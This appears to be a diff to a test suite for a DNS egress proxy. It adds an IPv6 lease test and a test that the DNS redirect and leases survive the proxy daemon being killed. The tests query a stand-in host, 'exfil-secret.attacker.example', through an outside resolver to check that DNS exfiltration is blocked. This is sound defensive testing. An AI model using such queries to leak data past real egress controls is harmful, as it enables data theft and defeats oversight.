@@ -42,8 +42,9 @@ ZONE = {
     "a.shared.example.com": [["A", "192.0.2.13", 1]],
     "b.shared.example.com": [["A", "192.0.2.13", 20]],
     "exfil-secret.attacker.example": [["A", "192.0.2.20", 60]],
+    "v6.example.com": [["AAAA", "2001:db8::10", 60]],
 }
-ALLOW = ["api.example.com", "cdn.example.com", "*.cdn.example.net", "badcname.example.com",
+ALLOW = ["v6.example.com", "api.example.com", "cdn.example.com", "*.cdn.example.net", "badcname.example.com",
          "rebind.example.com", "meta.example.com", "short.example.com", "*.shared.example.com",
          "gone.example.com"]
 
@@ -196,13 +197,19 @@ def dns_allowed_names_leased(env):
     # DNS over TCP to the proxy.
     r = dig(env, t, "api.example.com", tcp=True)
     check(r.get("rcode") == 0 and addrs(r) == ["192.0.2.10"], "tcp: %r" % r)
+    # AAAA: the IPv6 answer is leased in the IPv6 set (the query itself is IPv4).
+    r = dig(env, t, "v6.example.com", qtype="AAAA")
+    check(r.get("rcode") == 0 and [a[3] for a in r["answers"]] == ["2001:db8::10"], "aaaa: %r" % r)
+    v6 = [l for l in leases(env)["leases"] if l["destination"] == "2001:db8::10"]
+    check(len(v6) == 1 and v6[0]["protocol"] == "tcp" and v6[0]["ports"] == [8443], "v6: %r" % v6)
     # An allowed name that does not exist: NXDOMAIN passes, nothing is leased.
     r = dig(env, t, "gone.example.com")
     check(r.get("rcode") == 3 and r["answers"] == [], "nxdomain: %r" % r)
     ev = dns_evidence(env)
     check([(e["qname"], e["decision"], e["reason"]) for e in ev] ==
           [("api.example.com", "allow", "allowed"), ("cdn.example.com", "allow", "allowed"),
-           ("api.example.com", "allow", "allowed"), ("gone.example.com", "allow", "upstream_rcode")],
+           ("api.example.com", "allow", "allowed"), ("v6.example.com", "allow", "allowed"),
+           ("gone.example.com", "allow", "upstream_rcode")],
           "evidence: %r" % ev)
     check(ev[1]["names"] == ["cdn.example.com", "edge.cdn.example.net"] and
           ev[1]["addresses"] == ["192.0.2.11"] and ev[1]["leases"][0]["port"] == 8443 and
@@ -210,7 +217,8 @@ def dns_allowed_names_leased(env):
     check(ev[2]["leases"][0]["extended"] is True, "a second answer made a second lease: %r" % ev[2])
     ls = leases(env)["leases"]
     got = sorted((l["destination"], l["protocol"], l["ports"][0]) for l in ls)
-    check(got == [("192.0.2.10", "tcp", 8443), ("192.0.2.11", "tcp", 8443)], "leases: %r" % ls)
+    check(got == [("192.0.2.10", "tcp", 8443), ("192.0.2.11", "tcp", 8443),
+                  ("2001:db8::10", "tcp", 8443)], "leases: %r" % ls)
     # Every query was redirected to the proxy: the resolver the client named
     # only ever saw the mediator (gw's 192.0.2.1), never the client itself.
     seen = upstream_names(t)
@@ -295,6 +303,38 @@ def dns_ttl_expiry(env):
         env.state, "network-operations", OP, "effects.jsonl")) if l.strip())
         if e.get("kind") == "lease_expired"]
     check([e["destination"] for e in exp] == ["192.0.2.12"], "expiries: %r" % exp)
+
+
+def dns_survives_restart(env):
+    """boundaryd killed with SIGKILL: the kernel keeps the redirect and the
+    leases (an open lease still connects), the proxy answers SERVFAIL
+    (never an unleased answer) until boundaryd is back; after the restart
+    the table is rebuilt with its redirect and lookups lease again."""
+    t = setup(env)
+    r = dig(env, t, "api.example.com")
+    check(addrs(r) == ["192.0.2.10"], "before: %r" % r)
+    env.kill9()
+    check(probe(env, t, "tcp,192.0.2.10,8443")["tcp,192.0.2.10,8443"] == "ok",
+          "a lease did not survive boundaryd's death")
+    r = dig(env, t, "cdn.example.com")
+    check(r.get("rcode") == 2 and r["answers"] == [], "answered without boundaryd: %r" % r)
+    check(probe(env, t, "tcp,192.0.2.11,8443")["tcp,192.0.2.11,8443"] in REFUSED,
+          "an unleased address opened")
+    # Going around while boundaryd is down: still redirected, never the resolver.
+    seen = len(upstream_names(t))
+    r = dig(env, t, "exfil-secret.attacker.example", server="203.0.113.53")
+    check(r.get("rcode") in (2, 5) and not [q for q in upstream_names(t)[seen:]
+                                            if "attacker" in q["name"]], "down: %r" % r)
+    env.start(args=["--mediator-user", MEDIATOR_USER])
+
+    def answered():
+        r = dig(env, t, "cdn.example.com")
+        return r if r.get("rcode") == 0 else None
+    r = env.wait_for("the proxy to answer again", answered, timeout=20, interval=0.3)
+    check(addrs(r) == ["192.0.2.11"], "after: %r" % r)
+    check(probe(env, t, "tcp,192.0.2.11,8443")["tcp,192.0.2.11,8443"] == "ok", "after: connect")
+    r = dig(env, t, "exfil-secret.attacker.example", server="203.0.113.53")
+    check(r.get("rcode") == 5, "after: redirect lost: %r" % r)
 
 
 def dns_gensee_run(env):
@@ -383,4 +423,5 @@ if __name__ == "__main__":
     main({"dns_allowed_names_leased": dns_allowed_names_leased,
           "dns_refusals": dns_refusals,
           "dns_ttl_expiry": dns_ttl_expiry,
+          "dns_survives_restart": dns_survives_restart,
           "dns_gensee_run": dns_gensee_run})
